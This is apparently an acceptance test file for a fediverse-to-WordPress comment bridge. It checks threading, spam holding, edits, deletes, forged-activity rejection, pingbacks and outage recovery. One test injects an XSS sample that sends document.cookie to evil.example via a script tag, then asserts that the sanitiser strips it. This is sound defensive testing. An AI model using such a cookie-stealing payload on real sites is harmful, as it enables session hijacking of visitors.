"""Acceptance: the talkabout thread (``tests/data/talkabout/THREAD.md``), all nine rows, end to
end into the blog, and back out.

The blog is a fake WordPress (:class:`~tests.fakes.wordpress_blog.FakeWordPressBlog`, a real
aiohttp server on 127.0.0.1) serving the talkabout post ``?p=1234``, its REST comments API
(application password) and XML-RPC pingbacks, which fetch the source page as WordPress does.
The bridge writes into it with the WordPress sink (comments through REST, likes, boosts and
mentions as pingbacks), reads it back with the dialog, and runs its real job worker; every
remote actor lives on a fake instance of its own and signs what it sends. The assertions are
on the blog's own state (its ``wp_comments``), and on what Maurice's instance received.

WordPress has no likes: the like count lives on the bridge (post page, ``likes``
collection); the blog gets each like as a pingback "Liker N liked …".
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import unused_port

from bridge.activitypub.articles import iso_time
from bridge.backfeed.dialog import dialog_job
from bridge.store.sqlite import SQLiteStore
from tests.acceptance.test_talkabout_thread import (
    BOOSTERS,
    LIKERS,
    MENTIONERS,
    SHORT_TITLE,
    Thread,
    title_of,
)
from tests.conftest import FakeClock
from tests.fakes import remote_notes as texts
from tests.fakes.blog_bridge import (
    PASSWORD_ENV,
    POST_NUMBER,
    dead,
    drain,
    save_post,
    serve_bridge,
    talkabout_blog,
    talkabout_post,
    wordpress_settings,
    work,
)
from tests.fakes.instance import FakeInstance
from tests.fakes.instance_actors import AS_CONTEXT, PUBLIC, FakeActor
from tests.fakes.instance_server import FakeServer
from tests.fakes.resolver import MappingResolver
from tests.fakes.wordpress_blog import APP_PASSWORD, FakeWordPressBlog, WPComment

Serve = Callable[[web.Application], Awaitable[str]]
AUTHOR = "Mirko Lange"
ANSWER = "Jawoll! Danke!"


@dataclass
class Blogged:
    """The thread (bridge, fediverse, post) and the blog it writes into."""

    t: Thread
    wp: FakeWordPressBlog

    @property
    def post_url(self) -> str:
        return f"{self.wp.url}/ein-pladoyer-fur-die-mitteilung/"

    async def drain(self, *, step: float = 60.0, rounds: int = 40) -> int:
        return await drain(self.t.bridge, self.t.clock, step=step, rounds=rounds)

    def comments_by(self, name: str, *, trashed: bool = False) -> list[WPComment]:
        """The blog's comments (type ``comment``) whose author name is ``name``."""
        return [
            c
            for c in self.wp.comments.values()
            if c.type == "comment" and c.author_name == name and (trashed or c.status != "trash")
        ]

    def only(self, name: str) -> WPComment:
        (found,) = self.comments_by(name)
        assert found.post == POST_NUMBER
        return found

    def pingbacks(self, *, trashed: bool = False) -> list[WPComment]:
        return [
            c
            for c in self.wp.comments.values()
            if c.type == "pingback" and (trashed or c.status != "trash")
        ]


@pytest.fixture
def password(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(PASSWORD_ENV, APP_PASSWORD)


@asynccontextmanager
async def blogged(
    store: SQLiteStore,
    http: aiohttp.ClientSession,
    resolver: MappingResolver,
    clock: FakeClock,
    **settings: Any,
) -> AsyncIterator[Blogged]:
    async with talkabout_blog(http) as wp:
        entry = talkabout_post(wp.url)
        async with (
            serve_bridge(
                store,
                http,
                resolver,
                clock,
                unused_port(),
                wordpress_settings(wp, **settings),
                f"{wp.url}/feed/",
            ) as bridge,
            FakeServer() as server,
        ):
            post = await save_post(bridge, entry)
            yield Blogged(Thread(bridge, server, clock, http, resolver, bridge.base, post), wp)


async def test_talkabout_thread_into_the_blog(
    password: None,
    sqlite_store: SQLiteStore,
    http: aiohttp.ClientSession,
    resolver: MappingResolver,
    clock: FakeClock,
) -> None:
    async with blogged(sqlite_store, http, resolver, clock, linkbacks_per_minute=20) as b:
        await row_1(b)
        await row_2(b)
        await row_3(b)
        await row_4(b)
        maurice = await row_5(b)
        await row_6_and_9(b)
        await row_7(b)
        await row_8(b)
        await the_blog(b, maurice)
        assert await dead(b.t.bridge.store) == []


async def row_1(b: Blogged) -> None:
    """Sebastian's reply becomes his comment on post 1234: name, profile URL, origin mark."""
    t = b.t
    sebastian = t.actor("sebastiankeil", "Sebastian Keil")
    await t.follow(sebastian)
    note = t.note(sebastian, 1, texts.paragraphs(texts.SEBASTIAN))
    assert await t.send(sebastian, t.create(sebastian, note)) == 202
    await b.drain()
    comment = b.only("Sebastian Keil")
    assert comment.author_url == f"{sebastian.site.base}/@sebastiankeil"
    assert comment.parent == 0
    assert comment.meta["feedfed_object_id"] == note["id"]
    assert comment.author_email.endswith("@feedfed.invalid")
    assert "Teilen" in comment.content or "teil" in comment.content.lower()
    t.clock.advance(60)


async def row_2(b: Blogged) -> None:
    """The same activity twice and the same text again as a new note: one comment on the
    blog; the second note is held on the bridge as a duplicate."""
    t = b.t
    sean = t.actor("seankollak", "Sean Kollak")
    await t.follow(sean)
    note = t.note(sean, 2, texts.paragraphs(texts.SEAN))
    activity = t.create(sean, note)
    assert await t.send(sean, activity) == 202
    assert await t.send(sean, activity) in (200, 202)
    t.clock.advance(40)
    again = t.note(sean, 3, texts.paragraphs(texts.SEAN))
    assert await t.send(sean, t.create(sean, again)) == 202
    await b.drain()
    assert b.only("Sean Kollak").meta["feedfed_object_id"] == note["id"]
    assert (await t.comment(again["id"])).state == "duplicate"
    t.clock.advance(60)


async def row_3(b: Blogged) -> None:
    """Probable spam is held on the bridge and never sent to the blog."""
    t = b.t
    spammer = t.actor("cellphonelookup", "cellphone lookup", fresh=True)
    links = "".join(f' <a href="{url}">{url}</a>' for url in texts.SPAM_LINKS)
    note = t.note(spammer, 4, texts.paragraphs(texts.SPAM, extra=links))
    assert await t.send(spammer, t.create(spammer, note)) == 202
    await b.drain()
    assert (await t.comment(note["id"])).state in ("held", "spam")
    assert b.comments_by("cellphone lookup", trashed=True) == []
    assert not any(texts.SPAM_LINKS[0] in c.content for c in b.wp.comments.values())
    t.clock.advance(60)


async def row_4(b: Blogged) -> None:
    """Timo's hostile markup reaches the blog with its link and paragraphs, nothing else."""
    t = b.t
    timo = t.actor("timo", "Timo Lommatzsch")
    await t.follow(timo)
    hostile = (
        f'<a href="{texts.TIMO_LINK}">{texts.TIMO_LINK}</a>'
        '<script>document.location="https://evil.example/?"+document.cookie</script>'
        '<span onclick="steal()">klick</span>'
    )
    note = t.note(timo, 5, texts.paragraphs(texts.TIMO, extra=hostile))
    assert await t.send(timo, t.create(timo, note)) == 202
    await b.drain()
    content = b.only("Timo Lommatzsch").content
    assert f'href="{texts.TIMO_LINK}"' in content
    assert content.count("<p>") >= 3
    for forbidden in ("<script", "document.cookie", "onclick", "steal()"):
        assert forbidden not in content
    t.clock.advance(60)


async def row_5(b: Blogged) -> FakeActor:
    """Maurice replies; the author answers him on the blog; the answer reaches Maurice's
    instance as a Note in reply to his (signed, verified there); his follow-up to his own
    reply nests under his first comment on the blog, next to the answer."""
    t = b.t
    maurice = t.actor("mauricemorell", "Maurice Morell")
    await t.follow(maurice)
    first = t.note(maurice, 10, texts.paragraphs(texts.MAURICE))
    assert await t.send(maurice, t.create(maurice, first)) == 202
    await b.drain()
    on_blog = b.only("Maurice Morell")

    # The author answers on the blog, as a reply to Maurice's comment there.
    t.clock.advance(300)
    b.wp.add_comment(
        post=POST_NUMBER,
        parent=on_blog.id,
        author_name=AUTHOR,
        author_email="mirko@talkabout.example",
        author_url=b.wp.url + "/",
        content=f"<p>{ANSWER}</p>",
        date_gmt=t.clock().strftime("%Y-%m-%dT%H:%M:%S"),
    )
    blog_id = t.bridge.blogs["talkabout"].id
    await t.bridge.store.enqueue([dialog_job(blog_id, t.clock())], t.clock())
    await b.drain()
    answers = [c for c in await t.bridge.store.list_comments(blog_id) if c.origin == "blog"]
    assert len(answers) == 1, [c.author.name for c in answers]
    answer = answers[0]
    assert answer.parent_id == first["id"] and answer.author.name == AUTHOR

    site = maurice.site
    assert isinstance(site, FakeInstance)
    received = [
        r
        for r in site.deliveries()
        if r.document.get("type") == "Create"
        and isinstance(r.document.get("object"), dict)
        and ANSWER in r.document["object"].get("content", "")
    ]
    assert len(received) == 1, "the answer reaches Maurice's instance once"
    assert received[0].verdict.ok, received[0].verdict.reason
    sent = received[0].document["object"]
    assert sent["id"] == answer.object_id
    assert sent["inReplyTo"] == first["id"]
    assert sent["attributedTo"] == t.bridge.actor()
    assert maurice.id in sent["cc"] and PUBLIC in sent["to"]
    assert any(tag.get("href") == maurice.id for tag in sent["tag"])

    # Maurice answers his own reply with a corrected link: it nests under his first comment.
    t.clock.advance(300)
    link = f'<a href="{texts.MAURICE_LINK}">{texts.MAURICE_LINK}</a>'
    follow_up = t.note(maurice, 11, f"<p>Korrigierter Link: {link}</p>")
    follow_up["inReplyTo"] = first["id"]
    assert await t.send(maurice, t.create(maurice, follow_up)) == 202
    await b.drain()
    mine = sorted(b.comments_by("Maurice Morell"), key=lambda c: c.id)
    assert [c.parent for c in mine] == [0, on_blog.id]
    assert texts.MAURICE_LINK in mine[1].content
    (from_author,) = b.comments_by(AUTHOR)
    assert from_author.parent == on_blog.id

    # Beyond the table: a fediverse reply to the author's answer nests under the answer on
    # the blog (the answer was never pushed: the blog's own id of it is used).
    t.clock.advance(60)
    sebastian = t.actors["sebastiankeil"]
    to_answer = t.note(sebastian, 12, "<p>Schöner Dialog!</p>")
    to_answer["inReplyTo"] = answer.object_id
    assert await t.send(sebastian, t.create(sebastian, to_answer)) == 202
    await b.drain()
    (nested,) = [c for c in b.comments_by("Sebastian Keil") if c.parent]
    assert nested.parent == from_author.id
    assert nested.meta["feedfed_object_id"] == to_answer["id"]
    t.clock.advance(60)
    return maurice


async def row_6_and_9(b: Blogged) -> None:
    """David's reply appears, shows his edit, and is trashed when he deletes it; a forged
    Delete and a reply signed with another actor's key are refused and change nothing."""
    t = b.t
    david = t.actor("david_philippe", "David Philippe")
    mallory = t.actor("mallory", "Mallory")
    await t.follow(david)
    note = t.note(david, 6, texts.paragraphs(texts.DAVID))
    assert await t.send(david, t.create(david, note)) == 202
    await b.drain()
    assert "Podcast" in b.only("David Philippe").content

    t.clock.advance(120)
    edited = {**note, "content": "<p>Nachtrag: der Dialog ist das Sahnehäubchen.</p>"}
    edited["updated"] = iso_time(t.clock())
    update = {**t.create(david, edited), "type": "Update", "id": f"{note['id']}#updates/1"}
    assert await t.send(david, update) == 202
    await b.drain()
    on_blog = b.only("David Philippe")
    assert "Sahnehäubchen" in on_blog.content and "Podcast" not in on_blog.content

    before = {c.id: (c.status, c.content) for c in b.wp.comments.values()}
    forged_delete = {
        "@context": AS_CONTEXT,
        "id": f"{mallory.id}#delete/1",
        "type": "Delete",
        "actor": mallory.id,
        "object": note["id"],
    }
    assert 400 <= await t.send(mallory, forged_delete) < 500
    impostor = t.note(david, 7, "<p>Ich nehme alles zurück.</p>")
    assert 400 <= await t.send(david, t.create(david, impostor), as_=mallory) < 500
    await b.drain()
    assert {c.id: (c.status, c.content) for c in b.wp.comments.values()} == before

    t.clock.advance(120)
    delete = {
        "@context": AS_CONTEXT,
        "id": f"{note['id']}#delete",
        "type": "Delete",
        "actor": david.id,
        "object": {"id": note["id"], "type": "Tombstone"},
        "to": [PUBLIC],
    }
    assert await t.send(david, delete) == 202
    await b.drain()
    assert b.comments_by("David Philippe") == []
    (trashed,) = b.comments_by("David Philippe", trashed=True)
    assert trashed.id == on_blog.id and trashed.status == "trash"
    t.clock.advance(60)


async def row_7(b: Blogged) -> None:
    """30 boosts and 3 mentions: 33 pingbacks, each titled with the actor's display name
    (WordPress takes the source page's <title>); an Undo trashes its pingback."""
    t = b.t
    announces = []
    for number in range(BOOSTERS):
        booster = t.actor(f"booster{number}", f"Boosterin {number} Nirschl")
        activity = booster.activity("Announce", t.article, to=[PUBLIC], cc=[t.bridge.actor()])
        assert await t.send(booster, activity) == 202
        announces.append((booster, activity))
    for number in range(MENTIONERS):
        mentioner = t.actor(f"mentioner{number}", f"Erwähner {number}")
        await t.follow(mentioner)
        note = t.note(
            mentioner,
            100 + number,
            f'<p>Lesenswert: <a href="{b.post_url}">{b.post_url}</a></p>',
            reply=False,
        )
        assert await t.send(mentioner, t.create(mentioner, note)) == 202
    steps = await b.drain()
    assert steps >= 1, "33 linkbacks at 20 a minute take more than one minute"
    pingbacks = b.pingbacks()
    assert len(pingbacks) == BOOSTERS + MENTIONERS
    names = sorted(_plain(c.author_name) for c in pingbacks)
    expected = sorted(
        [f"Boosterin {n} Nirschl boosted {SHORT_TITLE}" for n in range(BOOSTERS)]
        + [f"Erwähner {n} mentioned {SHORT_TITLE}" for n in range(MENTIONERS)]
    )
    assert names == expected
    for pingback in pingbacks:
        assert pingback.post == POST_NUMBER
        assert pingback.author_url.startswith(t.bridge.base + "/")
        status, page = await t.get(pingback.author_url)
        assert status == 200 and title_of(page) == _plain(pingback.author_name)

    booster, announce = announces[0]
    assert await t.send(booster, booster.undo(announce)) == 202
    await b.drain()
    assert len(b.pingbacks()) == BOOSTERS + MENTIONERS - 1
    (gone,) = [c for c in b.pingbacks(trashed=True) if c.status == "trash"]
    assert _plain(gone.author_name) == f"Boosterin 0 Nirschl boosted {SHORT_TITLE}"
    status, _ = await t.get(gone.author_url)
    assert status == 410


async def row_8(b: Blogged) -> None:
    """13 likes, one withdrawn before the worker ran: the bridge counts 12; WordPress has no
    likes, so the blog gets the 12 as pingbacks and never sees the withdrawn one."""
    t = b.t
    likes = []
    for number in range(LIKERS):
        liker = t.actor(f"liker{number}", f"Liker {number}")
        like = liker.activity("Like", t.article)
        assert await t.send(liker, like) == 202
        likes.append((liker, like))
    liker, like = likes[5]
    assert await t.send(liker, liker.undo(like)) == 202
    await b.drain()
    collection = await t.collection("likes")
    assert collection["totalItems"] == LIKERS - 1
    status, page = await t.get(t.bridge.ctx.urls.post_page("talkabout", t.post.slug))
    assert status == 200
    assert b'<span class="like-count">12 likes</span>' in page
    liked = [c for c in b.pingbacks(trashed=True) if " liked " in _plain(c.author_name)]
    assert sorted(_plain(c.author_name) for c in liked) == sorted(
        f"Liker {n} liked {SHORT_TITLE}" for n in range(LIKERS) if n != 5
    )
    assert all(c.status == "approved" for c in liked)


async def the_blog(b: Blogged, maurice: FakeActor) -> None:
    """The comment section as the blog shows it at the end, and a last dialog poll that
    federates nothing again (the bridge's own comments are not echoed)."""
    t = b.t
    visible = sorted(
        (c for c in b.wp.comments.values() if c.type == "comment" and c.status != "trash"),
        key=lambda c: c.id,
    )
    maurice_first = b.comments_by("Maurice Morell")[0].id
    assert [(c.author_name, c.parent) for c in visible] == [
        ("Sebastian Keil", 0),
        ("Sean Kollak", 0),
        ("Timo Lommatzsch", 0),
        ("Maurice Morell", 0),
        (AUTHOR, maurice_first),
        ("Maurice Morell", maurice_first),
        ("Sebastian Keil", b.comments_by(AUTHOR)[0].id),
    ]
    assert [c.author_name for c in b.wp.comments.values() if c.status == "trash"] == [
        "David Philippe",
        next(c.author_name for c in b.pingbacks(trashed=True) if c.status == "trash"),
    ]
    # Every pingback was sent once: WordPress never answered "already registered".
    assert len(b.wp.pingback_calls) == len(set(b.wp.pingback_calls))

    blog_id = t.bridge.blogs["talkabout"].id
    await t.bridge.store.enqueue([dialog_job(blog_id, t.clock())], t.clock())
    await b.drain()
    origins = [c.origin for c in await t.bridge.store.list_comments(blog_id, limit=1000)]
    assert origins.count("blog") == 1
    site = maurice.site
    assert isinstance(site, FakeInstance)
    creates = [r for r in site.deliveries() if r.document.get("type") == "Create"]
    assert len(creates) == 1


def _plain(name: str) -> str:
    """A pingback's author name without the bidi isolates the bridge's titles carry."""
    return name.replace("\u2068", "").replace("\u2069", "").strip()


async def test_a_blog_down_for_an_hour_gets_everything_once_across_a_restart(
    password: None,
    sqlite_store: SQLiteStore,
    http: aiohttp.ClientSession,
    resolver: MappingResolver,
    clock: FakeClock,
) -> None:
    """The blog answers 503 for half an hour and refuses connections for the next half;
    interactions keep arriving, the bridge is restarted (a new store object on the same
    SQLite file, a new worker, the same port); once the blog is back it gets everything,
    once each, threaded and edited as on the fediverse."""
    port = unused_port()
    async with talkabout_blog(http) as wp, FakeServer() as server:
        settings, feed = wordpress_settings(wp), f"{wp.url}/feed/"
        async with serve_bridge(sqlite_store, http, resolver, clock, port, settings, feed) as one:
            post = await save_post(one, talkabout_post(wp.url))
            t = Thread(one, server, clock, http, resolver, one.base, post)
            b = Blogged(t, wp)
            sebastian = t.actor("sebastiankeil", "Sebastian Keil")
            await t.follow(sebastian)
            first = t.note(sebastian, 1, texts.paragraphs(texts.SEBASTIAN))
            assert await t.send(sebastian, t.create(sebastian, first)) == 202
            await b.drain()
            on_blog = b.only("Sebastian Keil")

            wp.down = True
            outage_start = len(wp.requests)
            sean = t.actor("seankollak", "Sean Kollak")
            sean_note = t.note(sean, 2, texts.paragraphs(texts.SEAN))
            assert await t.send(sean, t.create(sean, sean_note)) == 202
            timo = t.actor("timo", "Timo Lommatzsch")
            answer = t.note(timo, 3, "<p>Sebastian, ganz deiner Meinung.</p>")
            answer["inReplyTo"] = first["id"]
            assert await t.send(timo, t.create(timo, answer)) == 202
            for minute in range(0, 30, 5):
                await work(one)
                clock.advance(300)
                if minute == 10:
                    # A reply to a comment that has not reached the blog yet either.
                    maurice = t.actor("mauricemorell", "Maurice Morell")
                    to_sean = t.note(maurice, 4, "<p>Sean, Jarvis lohnt sich.</p>")
                    to_sean["inReplyTo"] = sean_note["id"]
                    assert await t.send(maurice, t.create(maurice, to_sean)) == 202
                if minute == 20:
                    booster = t.actor("booster0", "Boosterin 0 Nirschl")
                    boost = booster.activity(
                        "Announce", t.article, to=[PUBLIC], cc=[t.bridge.actor()]
                    )
                    assert await t.send(booster, boost) == 202
            assert len(wp.requests) > outage_start, "the bridge kept trying"
            assert [c.id for c in wp.comments.values()] == [on_blog.id]
        # The bridge stops; the blog stops answering at all.
        wp.down = False
        await wp.stop()
        path = sqlite_store._path
        await sqlite_store.close()
        store = await SQLiteStore.open(path)
        try:
            async with serve_bridge(store, http, resolver, clock, port, settings, feed) as two:
                t2 = Thread(two, server, clock, http, resolver, two.base, post)
                t2.actors, t2._key_slot = t.actors, t._key_slot
                b2 = Blogged(t2, wp)
                david = t2.actor("david_philippe", "David Philippe")
                david_note = t2.note(david, 5, texts.paragraphs(texts.DAVID))
                assert await t2.send(david, t2.create(david, david_note)) == 202
                for _ in range(3):
                    await work(two)
                    clock.advance(300)
                edited = {**david_note, "content": "<p>Nachtrag: das Sahnehäubchen.</p>"}
                edited["updated"] = iso_time(clock())
                update = {
                    **t2.create(david, edited),
                    "type": "Update",
                    "id": f"{david_note['id']}#updates/1",
                }
                assert await t2.send(david, update) == 202
                liker = t2.actor("liker0", "Liker 0")
                assert await t2.send(liker, liker.activity("Like", t2.article)) == 202
                for _ in range(3):
                    await work(two)
                    clock.advance(300)
                assert [c.id for c in wp.comments.values()] == [on_blog.id]

                await wp.start()  # back, on the same address
                await b2.drain(step=300)
                await everything_once(b2, on_blog, sean_note["id"])
                assert await dead(store) == []
        finally:
            await store.close()


async def everything_once(b: Blogged, sebastian: WPComment, sean_note: str) -> None:
    """What the blog holds after the outage: every item once, threaded, the edit applied."""
    by_name = {c.author_name: c for c in b.wp.comments.values() if c.type == "comment"}
    assert sorted(by_name) == [
        "David Philippe",
        "Maurice Morell",
        "Sean Kollak",
        "Sebastian Keil",
        "Timo Lommatzsch",
    ]
    assert len([c for c in b.wp.comments.values() if c.type == "comment"]) == 5
    assert by_name["Timo Lommatzsch"].parent == sebastian.id
    assert by_name["Maurice Morell"].parent == by_name["Sean Kollak"].id
    assert by_name["Sean Kollak"].meta["feedfed_object_id"] == sean_note
    assert "Sahnehäubchen" in by_name["David Philippe"].content
    assert all(c.status == "approved" for c in b.wp.comments.values())
    names = sorted(_plain(c.author_name) for c in b.pingbacks())
    assert names == [f"Boosterin 0 Nirschl boosted {SHORT_TITLE}", f"Liker 0 liked {SHORT_TITLE}"]
    assert len(b.wp.pingback_calls) == 2
